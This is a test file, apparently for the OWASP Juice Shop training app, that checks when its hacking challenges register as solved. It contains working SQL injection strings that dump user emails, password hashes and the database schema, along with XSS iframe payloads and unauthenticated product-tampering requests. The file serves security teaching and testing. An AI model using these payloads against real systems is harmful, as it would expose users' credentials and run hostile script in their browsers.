import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { signToken } from '../../platform/auth/jwt.js'
import { bearer, sendJson } from '../../test-support/http-helpers.js'
import { eventually, startTestShop, type TestShop } from '../../test-support/test-shop.js'

let t: TestShop
beforeEach(async () => {
  t = await startTestShop()
})
afterEach(async () => {
  await t.close()
})

const xss = '<iframe src="javascript:alert(`xss`)">'
const bonusPayload =
  '<iframe width="100%" height="166" scrolling="no" frameborder="no" allow="autoplay" src="https://w.soundcloud.com/player/?url=https%3A//api.soundcloud.com/tracks/771984076&color=%23ff5500&auto_play=true&hide_related=false&show_comments=true&show_user=true&show_reposts=false&show_teaser=true"></iframe>'

const search = (q: string) => t.request(`/rest/products/search?q=${encodeURIComponent(q)}`)
const solved = async (key: string) => (await t.challenge(key)).solved
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms))

describe('unionSqlInjectionChallenge', () => {
  it('is solved by a UNION search answering every user email and password hash', async () => {
    const response = await search("')) union select id,'2','3',email,password,'6','7','8','9' from users--")
    expect(response.status).toBe(200)
    expect(await solved('unionSqlInjectionChallenge')).toBe(true)
  })

  it('also covers users registered later, which the UNION returns too', async () => {
    const user = { email: 'late@juice-sh.op', password: 'late1234', passwordRepeat: 'late1234' }
    expect((await t.request('/api/Users', sendJson('POST', user))).status).toBe(201)
    await search("')) union select id,'2','3',email,password,'6','7','8','9' from users--")
    expect(await solved('unionSqlInjectionChallenge')).toBe(true)
  })

  it('is not solved by ordinary searches or a partial dump', async () => {
    await search('apple')
    await search('')
    await search("')) union select id,'2','3',email,'5','6','7','8','9' from users--")
    await search("')) union select id,'2','3',email,password,'6','7','8','9' from users where id < 3--")
    expect(await solved('unionSqlInjectionChallenge')).toBe(false)
  })
})

describe('dbSchemaChallenge', () => {
  it('is solved by a UNION search answering every table definition', async () => {
    await search("')) union select sql,'2','3','4','5','6','7','8','9' from sqlite_master--")
    expect(await solved('dbSchemaChallenge')).toBe(true)
  })

  it('is not solved by the table names alone or an ordinary search', async () => {
    await search('juice')
    await search("')) union select name,'2','3','4','5','6','7','8','9' from sqlite_master--")
    await search(
      "')) union select sql,'2','3','4','5','6','7','8','9' from sqlite_master where name='Users'--",
    )
    expect(await solved('dbSchemaChallenge')).toBe(false)
  })
})

describe('changeProductChallenge', () => {
  const tampered = '<a href="https://owasp.slack.com" target="_blank">More...</a>'

  it('is solved on the request after the O-Saft link was overwritten without a login', async () => {
    const response = await t.request('/api/Products/9', sendJson('PUT', { description: tampered }))
    expect(response.status).toBe(200)
    expect(await solved('changeProductChallenge')).toBe(true)
  })

  it('is not solved by a price change or by adding the link next to the original one', async () => {
    await t.request('/api/Products/9', sendJson('PUT', { price: 0.02 }))
    const original = '<a href="https://www.owasp.org/index.php/O-Saft" target="_blank">More...</a>'
    await t.request('/api/Products/9', sendJson('PUT', { description: `${original} ${tampered}` }))
    await t.request('/api/Products/1', sendJson('PUT', { description: tampered }))
    expect(await solved('changeProductChallenge')).toBe(false)
  })
})

describe('restfulXssChallenge', () => {
  it('is solved by an unauthenticated PUT storing the attack string', async () => {
    await t.request('/api/Products/1', sendJson('PUT', { description: xss }))
    expect(await solved('restfulXssChallenge')).toBe(true)
  })

  it('is solved by a POST with any valid token', async () => {
    const body = { name: 'RestXSS', description: xss, price: 47.11 }
    expect((await t.request('/api/Products', sendJson('POST', body, bearer(signToken({}))))).status).toBe(201)
    expect(await solved('restfulXssChallenge')).toBe(true)
  })

  it('is not solved by ordinary descriptions, failed writes or other fields', async () => {
    await t.request('/api/Products/1', sendJson('PUT', { description: 'Now <em>even</em> fresher' }))
    await t.request('/api/Products/4711', sendJson('PUT', { description: xss }))
    await t.request('/api/Products', sendJson('POST', { name: 'X', description: xss }))
    await t.request('/api/Products/1', sendJson('PUT', { name: xss }))
    expect(await solved('restfulXssChallenge')).toBe(false)
  })

  it('cannot be solved in safety mode, where the description is sanitised', async () => {
    const safe = await startTestShop({ overrides: { challenges: { safetyMode: 'enabled' } } })
    await safe.request('/api/Products/1', sendJson('PUT', { description: xss }))
    expect((await safe.challenge('restfulXssChallenge')).solved).toBe(false)
    await safe.close()
  })
})

describe('retrieveBlueprintChallenge', () => {
  it('is solved by downloading the blueprint from the product images', async () => {
    const response = await t.request('/assets/public/images/products/JuiceShop.stl')
    expect(response.status).toBe(200)
    expect(await solved('retrieveBlueprintChallenge')).toBe(true)
  })

  it('is not solved by product images or the file name elsewhere', async () => {
    await t.request('/assets/public/images/products/3d_keychain.jpg')
    await t.request('/assets/public/images/products/squareBox1-40x40x40.stl')
    await t.request('/JuiceShop.stl')
    await t.request('/assets/public/images/products/juiceshop.STL')
    expect(await solved('retrieveBlueprintChallenge')).toBe(false)
  })
})

describe('localXssChallenge and xssBonusChallenge', () => {
  it('DOM XSS is solved when the search view reports the attack string', async () => {
    const socket = await t.socket()
    socket.emit('verifyLocalXssChallenge', xss)
    await eventually(() => solved('localXssChallenge'))
    expect(await solved('xssBonusChallenge')).toBe(false)
  })

  it('Bonus Payload is solved when the search view reports the configured payload', async () => {
    const socket = await t.socket()
    socket.emit('verifyLocalXssChallenge', ` ${bonusPayload} `)
    await eventually(() => solved('xssBonusChallenge'))
    expect(await solved('localXssChallenge')).toBe(false)
  })

  it('neither is solved by ordinary search texts or odd payloads', async () => {
    const socket = await t.socket()
    for (const text of ['apple juice', '<b>juice</b>', [xss], { text: xss }, null, 42])
      socket.emit('verifyLocalXssChallenge', text)
    await search(xss)
    await pause(200)
    expect(await solved('localXssChallenge')).toBe(false)
    expect(await solved('xssBonusChallenge')).toBe(false)
  })
})
